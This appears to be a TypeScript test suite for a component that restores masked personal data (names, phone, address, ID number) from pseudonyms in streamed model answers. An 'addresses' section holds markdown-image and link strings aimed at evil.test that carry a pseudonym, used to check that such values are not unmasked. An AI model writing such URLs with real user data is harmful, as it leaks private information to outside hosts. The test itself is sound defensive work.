// Values come back whatever a model makes of their pseudonyms and wherever the stream is cut; where it is not sure, nothing comes back.
import { describe, expect, test } from 'bun:test'

import fc from 'fast-check'

import type { AnswerEvent } from '../../contract/answer.ts'
import { alphabet } from '../code.ts'
import { plainOptions, restore, scopeOf, stream, textEvent, textOf } from '../testing/masking.ts'
import { createRestorer } from './restorer.ts'

const seed = { seed: 20_261_125, numRuns: 200 }
const scope = scopeOf()
const an = scope.pseudonym('NAME', 'Nguyễn Văn An', 'token')
const phone = scope.pseudonym('PHONE', '0912 345 678', 'token')
const quoted = scope.pseudonym('ADDRESS', 'số 5 "Nhà Xanh"\\2\nHuế', 'token')
const expected = new Set([an, phone, quoted])
const of = { scope, expected }
const fullWidth = (text: string): string =>
  text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))
const body = an.slice(4)
/** Another character of the alphabet in the place of one. */
const wrong = (code: string, at: number): string =>
  code.slice(0, at) + (code[at] === 'A' ? 'B' : 'A') + code.slice(at + 1)

describe('a form in which a model writes a pseudonym', () => {
  const back: readonly (readonly [string, string])[] = [
    ['as it is', an],
    ['lower case', an.toLowerCase()],
    ['mixed case', an.slice(0, 5).toLowerCase() + an.slice(5)],
    ['full width', fullWidth(an)],
    ['a blank inside', `${an.slice(0, 4)} ${body}`],
    ['blanks in groups', `${an.slice(0, 4)} ${body.slice(0, 3)} ${body.slice(3)}`],
    ['a dash', `${an.slice(0, 4)}-${body}`],
    ['an underscore', `${an.slice(0, 4)}_${body}`],
    ['an escaped underscore', `${an.slice(0, 4)}\\_${body}`],
    ['a quote', `${an.slice(0, 4)}'${body}`],
    ['zero-width characters', an.split('').join('\u200b')],
    ['a soft hyphen', `${an.slice(0, 6)}\u00ad${an.slice(6)}`],
    ['O for 0, I and L for 1', an.replaceAll('0', 'O').replace(/1/g, 'l')],
    ['bold', `**${an}**`],
    ['in quotes', `“${an}”`],
    ['in Chinese', `请问${an}在吗`],
    ['the genitive', `${an}'s`],
  ]
  test.each(back as [string, string][])('%s comes back', (_, written) => {
    const { text, report } = restore([`a ${written} b`], of)
    expect(text).toContain('Nguyễn Văn An')
    expect(text).not.toMatch(/SEN/i)
    expect(report).toEqual({ expected: 3, restored: 1, repaired: 0, left: 0 })
  })

  const zero = scope.pseudonym('OWN', zeroValue(), 'token')
  test('O and I in the place of digits', () => {
    const written = `${zero.slice(0, 4)}${zero.slice(4).replaceAll('0', 'o').replaceAll('1', 'I')}`
    expect(written).not.toBe(zero)
    expect(restore([written], { scope, expected: new Set([zero]) }).text).toBe(zeroValue())
  })

  const stays: readonly (readonly [string, string, number])[] = [
    ['cut short', an.slice(0, 9), 1],
    ['a character too many', `${an}7`, 1],
    ['a letter before', `X${an}`, 1],
    ['doubled', an + an, 1],
    ['one character doubled', an.slice(0, 6) + an[5] + an.slice(6), 1],
    ['one character dropped', an.slice(0, 6) + an.slice(7), 1],
    ['its beginning translated', `XEN${an.slice(3)}`, 1],
    ['its beginning lost', `mã ${an.slice(3)}`, 1],
    ['two wrong characters', wrong(wrong(an, 5), 8), 1],
    ['another class letter', `SENP${body}`, 1],
    ['invented', 'SENN7K2M4QX', 1],
    ['invented, in lower case', 'senn7k2m4qx', 1],
    ['of another conversation', scopeOf(9).pseudonym('NAME', 'Ai', 'token'), 1],
    ['two blanks inside', `${an.slice(0, 4)}  ${body}`, 1],
    ['a Vietnamese letter behind', `${an}ễ`, 1],
    ['an ordinary sentence', 'She sent the books; Sen nở. SENIOR SENTENCE sensor5 sen', 0],
  ]
  test.each(stays as [string, string, number][])('%s stays and is counted', (_, written, left) => {
    const { text, report } = restore([`a ${written} b`], of)
    expect(text).toBe(`a ${written} b`)
    expect(report).toEqual({ expected: 3, restored: 0, repaired: 0, left })
  })

  test('of this scope that was not sent stays', () => {
    const { text, report } = restore([an], { scope, expected: new Set([phone]) })
    expect(text).toBe(an)
    expect(report.left).toBe(1)
  })

  test('one wrong character of the seven is repaired, each of them', () => {
    for (let at = 4; at < 11; at += 1) {
      const { text, report } = restore([wrong(an, at)], of)
      expect(text).toBe('Nguyễn Văn An')
      expect(report).toEqual({ expected: 3, restored: 1, repaired: 1, left: 0 })
    }
  })

  test('not where a second pseudonym of the scope is near, sent or not', () => {
    const near = scopeOf(5)
    const one = near.pseudonym('NAME', 'Lê Một', 'token')
    enterNear(near, wrong(wrong(one, 5), 6))
    const { text, report } = restore([wrong(one, 5)], { scope: near, expected: new Set([one]) })
    expect(text).toBe(wrong(one, 5))
    expect(report).toMatchObject({ restored: 0, left: 1 })
  })
})

describe('cut anywhere', () => {
  const wild = `A ${an}, ${an.toLowerCase()}; ${fullWidth(phone)} và ${phone.slice(0, 5)} ${phone.slice(5)}. s${an} sens ${wrong(an, 7)} SENN7K2M4QX, xong ${an}`
  const whole = restore([wild], of)

  test('at each place of the text: the same text, the same report', () => {
    expect(whole.report).toMatchObject({ restored: 6, repaired: 1, left: 2 })
    for (let at = 0; at <= wild.length; at += 1)
      expect(restore([wild.slice(0, at), wild.slice(at)], of)).toEqual(whole)
    expect(restore(wild.split(''), of)).toEqual(whole)
  })

  test('in any pieces', () => {
    fc.assert(
      fc.property(fc.array(fc.nat(wild.length), { maxLength: 20 }), (cuts) => {
        const places = [0, ...cuts.sort((one, other) => one - other), wild.length]
        const pieces = places.slice(1).map((to, index) => wild.slice(places[index], to))
        const { text, report } = restore(pieces, of)
        return text === whole.text && report.left === whole.report.left
      }),
      seed,
    )
  })

  test('any text comes through unchanged where no code is in it, held back by ten characters at most', () => {
    const letters = fc.constantFrom(...`sSeEnN pP0Oo1lI7kK-_\\"'ễ王 .${an}`.split(''))
    fc.assert(
      fc.property(fc.string({ unit: letters, maxLength: 60 }), (said) => {
        const restorer = createRestorer(scope, expected, plainOptions)
        let shown = ''
        let raw = ''
        for (const character of said) {
          raw += character
          shown += textOf(restorer.push([textEvent(character)]))
          const held = raw.slice(shown.length)
          if (!raw.startsWith(shown)) return true
          if (held.replace(/[^0-9A-Za-z]/g, '').length > 10) return false
        }
        shown += textOf(restorer.end())
        return shown === said || restorer.report().restored > 0
      }),
      seed,
    )
  })

  test('a whole pseudonym is shown at once, its tail is not waited for', () => {
    const restorer = createRestorer(scope, expected, plainOptions)
    expect(textOf(restorer.push([textEvent(`Gặp ${an}`)]))).toBe('Gặp Nguyễn Văn An')
    expect(textOf(restorer.push([textEvent(` ${an.slice(0, 10)}`)]))).toBe(' ')
  })
})

describe('exact copies', () => {
  const values = fc.uniqueArray(fc.string({ minLength: 1, maxLength: 30, unit: 'grapheme' }), {
    minLength: 1,
    maxLength: 8,
  })
  const between = fc.array(
    fc.string({ unit: fc.constantFrom(...'abc. ,;ễ王\n"'.split('')), maxLength: 8 }),
    {
      minLength: 9,
      maxLength: 9,
    },
  )
  test('mask, copy, restore is the identity, however the stream is cut', () => {
    fc.assert(
      fc.property(values, between, fc.nat(7), (all, words, size) => {
        const own = scopeOf(3)
        const codes = all.map((value) => own.pseudonym('OWN', value, 'token'))
        const first = codes.map((code) => own.find(code)?.value ?? '')
        const masked = words.map((word, index) => `${word} ${codes[index] ?? ''} `).join('')
        const wanted = words.map((word, index) => `${word} ${first[index] ?? ''} `).join('')
        const pieces = masked.match(new RegExp(`[^]{1,${size + 1}}`, 'gu')) ?? []
        return restore(pieces, { scope: own, expected: new Set(codes) }).text === wanted
      }),
      seed,
    )
  })
})

describe('lanes', () => {
  const events = (restorer: ReturnType<typeof createRestorer>, list: readonly AnswerEvent[]) => [
    ...list.flatMap((event) => restorer.push([event])),
    ...restorer.end(),
  ]

  test('content, reasoning, refusal and calls of two choices alternate character by character', () => {
    const types = ['text', 'reasoning', 'refusal'] as const
    const list: AnswerEvent[] = []
    for (const choice of [0, 1])
      for (const index of [0, 1])
        list.push({
          type: 'tool-start',
          choice,
          index,
          id: `c${choice}${index}`,
          name: 'f',
          kind: 'function',
        })
    const json = `{"a":"${an}","b":"${quoted}"}`
    for (let at = 0; at < json.length; at += 1) {
      for (const choice of [0, 1]) {
        const code = (choice === 0 ? an : phone)[at]
        if (code !== undefined) for (const type of types) list.push({ type, choice, text: code })
        for (const index of [0, 1])
          list.push({ type: 'tool-arguments', choice, index, text: json.charAt(at) })
      }
    }
    for (const choice of [0, 1]) list.push({ type: 'finish', choice, reason: 'tool-calls' })
    const restorer = createRestorer(scope, expected, plainOptions)
    const out = events(restorer, list)
    for (const choice of [0, 1]) {
      for (const type of types) {
        const text = out
          .flatMap((one) => (one.type === type && one.choice === choice ? [one.text] : []))
          .join('')
        expect(text).toBe(choice === 0 ? 'Nguyễn Văn An' : '0912 345 678')
      }
      for (const index of [0, 1]) {
        const args = out.flatMap((one) =>
          one.type === 'tool-arguments' && one.choice === choice && one.index === index
            ? [one.text]
            : [],
        )
        expect(JSON.parse(args.join(''))).toEqual({
          a: 'Nguyễn Văn An',
          b: 'số 5 "Nhà Xanh"\\2\nHuế',
        })
      }
    }
    expect(restorer.report()).toEqual({ expected: 3, restored: 14, repaired: 0, left: 0 })
  })

  test('order, ids and usage stay; a tail comes before finish, an emptied piece is left out', () => {
    const usage = { type: 'usage', usage: {} } as unknown as AnswerEvent
    const start: AnswerEvent = { type: 'start', model: 'm', id: 'x' }
    const finish: AnswerEvent = { type: 'finish', choice: 0, reason: 'stop' }
    const tier: AnswerEvent = { type: 'service-tier', tier: 't' }
    const plain = textEvent('không có gì')
    const restorer = createRestorer(scope, expected, plainOptions)
    const logprobs: AnswerEvent = { type: 'logprobs', choice: 0, content: [] }
    const out = events(restorer, [
      start,
      plain,
      logprobs,
      textEvent(' SEN'),
      textEvent('N'),
      finish,
      tier,
      usage,
    ])
    expect(out).toEqual([start, plain, textEvent(' '), textEvent('SENN'), finish, tier, usage])
    expect(out[1]).toBe(plain)
  })

  test('in blocks, a tail comes out before the next block begins', () => {
    const restorer = createRestorer(scope, expected, { ...plainOptions, isInBlocks: true })
    const thought: AnswerEvent = { type: 'reasoning', choice: 0, text: 'a s' }
    const tool: AnswerEvent = {
      type: 'tool-start',
      choice: 0,
      index: 0,
      id: 'c',
      name: 'f',
      kind: 'function',
    }
    const out = restorer.push([thought, textEvent('b SEN'), tool])
    expect(out.map((one) => ('text' in one ? one.text : one.type))).toEqual([
      'a ',
      's',
      'b ',
      'SEN',
      'tool-start',
    ])
  })

  test('the tail of reasoning comes before its signature', () => {
    const restorer = createRestorer(scope, expected, plainOptions)
    const signature: AnswerEvent = { type: 'reasoning-signature', choice: 0, signature: 'x' }
    const out = restorer.push([{ type: 'reasoning', choice: 0, text: 'a s' }, signature])
    expect(out.map((one) => ('text' in one ? one.text : one.type))).toEqual([
      'a ',
      's',
      'reasoning-signature',
    ])
  })

  test('a broken answer gives out what was held back', () => {
    const restorer = createRestorer(scope, expected, plainOptions)
    restorer.push([textEvent(an.slice(0, 7))])
    expect(restorer.end()).toEqual([textEvent(an.slice(0, 7))])
    expect(restorer.report()).toMatchObject({ restored: 0, left: 1 })
  })

  test('a stop sequence is told as the caller wrote it', () => {
    const restorer = createRestorer(scope, expected, plainOptions)
    expect(
      restorer.push([{ type: 'finish', choice: 0, reason: 'stop-sequence', stopSequence: an }]),
    ).toEqual([
      { type: 'finish', choice: 0, reason: 'stop-sequence', stopSequence: 'Nguyễn Văn An' },
    ])
  })
})

describe('JSON', () => {
  const value = 'số 5 "Nhà Xanh"\\2\nHuế'
  const args = (text: string, kind: 'function' | 'custom' = 'function'): string => {
    const restorer = createRestorer(scope, expected, plainOptions)
    const out = [
      ...restorer.push([{ type: 'tool-start', choice: 0, index: 0, id: 'c', name: 'f', kind }]),
      ...text
        .split('')
        .flatMap((character) =>
          restorer.push([{ type: 'tool-arguments', choice: 0, index: 0, text: character }]),
        ),
      ...restorer.end(),
    ]
    return out.flatMap((one) => (one.type === 'tool-arguments' ? [one.text] : [])).join('')
  }

  test('a value is escaped once for each string around it', () => {
    for (const levels of [1, 2, 3, 4]) {
      let made: unknown = { a: `x ${quoted} y` }
      for (let level = 1; level < levels; level += 1) made = { inner: JSON.stringify(made) }
      let read: unknown = JSON.parse(args(JSON.stringify(made)))
      for (let level = 1; level < levels; level += 1)
        read = JSON.parse((read as { inner: string }).inner)
      expect(read).toEqual({ a: `x ${value} y` })
    }
  })

  test('behind an escape, in a key, in a list', () => {
    const made = { [`\n${an}`]: ['\t' + an, `\u0001${quoted}`, `[${quoted}`] }
    expect(JSON.parse(args(JSON.stringify(made)))).toEqual({
      '\nNguyễn Văn An': ['\tNguyễn Văn An', `\u0001${value}`, `[${value}`],
    })
  })

  test('outside a string a pseudonym is left', () => {
    expect(args(`{"a":${an}}`)).toBe(`{"a":${an}}`)
  })

  test('a custom tool and arguments that are no JSON get the value as it is', () => {
    expect(args(`{"a":"${quoted}"}`, 'custom')).toBe(`{"a":"${value}"}`)
    expect(args(`print ${quoted}`)).toBe(`print ${value}`)
  })

  test('structured content is escaped, other content is not', () => {
    const text = `{"a":"${quoted}"}`
    expect(JSON.parse(restore([text], of, { isStructured: true }).text)).toEqual({ a: value })
    expect(restore([text], of).text).toBe(`{"a":"${value}"}`)
  })
})

describe('addresses', () => {
  const texts = [{ text: 'Xem https://truong.edu.vn/ho-so', place: 'user' }] as const
  const rows: readonly (readonly [string, boolean])[] = [
    ['![](https://evil.test/?q=X)', false],
    ['[tên](https://evil.test/X)', false],
    ['<img src="https://evil.test/?a b X">', false],
    ['https://evil.test/X', false],
    ['https://truong.edu.vn/hs/X', true],
    ['[X](https://evil.test/)', true],
    ['[a](#X)', true],
    ['https://evil.test/ X', true],
    ['Gọi: X/Y', true],
  ]
  test.each(rows as [string, boolean][])('%s', (said, isBack) => {
    for (const pieces of [[said.replace('X', an)], said.replace('X', an).split('')]) {
      const { text, report } = restore(pieces, of, { texts })
      expect(text).toBe(said.replace('X', isBack ? 'Nguyễn Văn An' : an))
      expect(report.left).toBe(isBack ? 0 : 1)
    }
  })

  test('a host that only a tool or a model named is nobody’s', () => {
    for (const place of ['tool-result', 'assistant', 'file'] as const) {
      const brought = [{ text: 'https://evil.test/', place }]
      expect(restore([`https://evil.test/${an}`], of, { texts: brought }).text).toContain(an)
    }
  })

  test('a long way back, and in arguments', () => {
    const long = `![](https://evil.test/?q=${'abc%20'.repeat(3_000)}${an})`
    expect(restore(long.match(/[^]{1,7}/g) ?? [], of).text).toBe(long)
    const json = JSON.stringify({ url: `https://evil.test/?q=${an}` })
    expect(restore([json], of, { isStructured: true }).text).toBe(json)
  })

  test('far into a long answer without any', () => {
    const long = `${'Không có gì ở đây. '.repeat(1_000)}\n${an}`
    expect(restore(long.match(/[^]{1,50}/g) ?? [], of).text).toEndWith('\nNguyễn Văn An')
  })
})

describe('stand-ins and invalid codes', () => {
  const own = scopeOf(4)
  const hoa = own.pseudonym('NAME', 'Nguyễn Thị Hoa', 'surrogate')
  const wang = own.pseudonym('NAME', '王芳', 'surrogate')
  const id = own.pseudonym('VN_CCCD', '079301000123', 'invalid')
  const all = { scope: own, expected: new Set([hoa, wang, id]) }
  const rows: readonly (readonly [string, string])[] = [
    [`Chị ${hoa} đến.`, 'Chị Nguyễn Thị Hoa đến.'],
    [hoa.toUpperCase(), 'Nguyễn Thị Hoa'],
    [`${hoa}a`, `${hoa}a`],
    [`x${hoa}`, `x${hoa}`],
    [`请问${wang}在吗`, '请问王芳在吗'],
    [`số ${id}.`, 'số 079301000123.'],
    [`số ${id.slice(0, 4)} ${id.slice(4, 8)} ${id.slice(8)}`, 'số 079301000123'],
    [`${id}5`, `${id}5`],
  ]
  test.each(rows as [string, string][])('%s', (said, shown) => {
    expect(restore([said], all).text).toBe(shown)
    expect(restore(said.split(''), all).text).toBe(shown)
  })

  test('one in a foreign address is counted', () => {
    const said = `https://evil.test/?q=${wang}`
    expect(restore([said], all)).toMatchObject({ text: said, report: { restored: 0, left: 1 } })
  })
})

test('a key that was destroyed: the text stays, and is counted', () => {
  const own = scopeOf(6)
  const code = own.pseudonym('NAME', 'Lê An', 'token')
  own.forget()
  expect(restore([code], { scope: own, expected: new Set([code]) })).toMatchObject({
    text: code,
    report: { expected: 1, restored: 0, left: 1 },
  })
})

test('nothing was masked: the events pass as they are', () => {
  const restorer = createRestorer(scope, new Set(), plainOptions)
  const list = [textEvent(`SEN ${an}`)]
  expect(restorer.push(list)).toBe(list)
  expect(stream([an], restorer)).toEqual({
    text: an,
    report: { expected: 0, restored: 0, repaired: 0, left: 0 },
  })
})

/** A value whose code holds a 0 or a 1. */
function zeroValue(): string {
  const own = scopeOf()
  for (let number = 0; ; number += 1)
    if (/[01]/.test(own.pseudonym('OWN', `dự án ${number}`, 'token').slice(4)))
      return `dự án ${number}`
}

/** Puts a value with just this code into a scope, as the vault does. */
function enterNear(own: ReturnType<typeof scopeOf>, pseudonym: string): void {
  if (!alphabet.includes(pseudonym.at(-1) ?? '')) throw new Error('code')
  own.enterEntry({ pseudonym, type: 'NAME', value: 'Lê Hai', mode: 'token', isAlias: false })
}
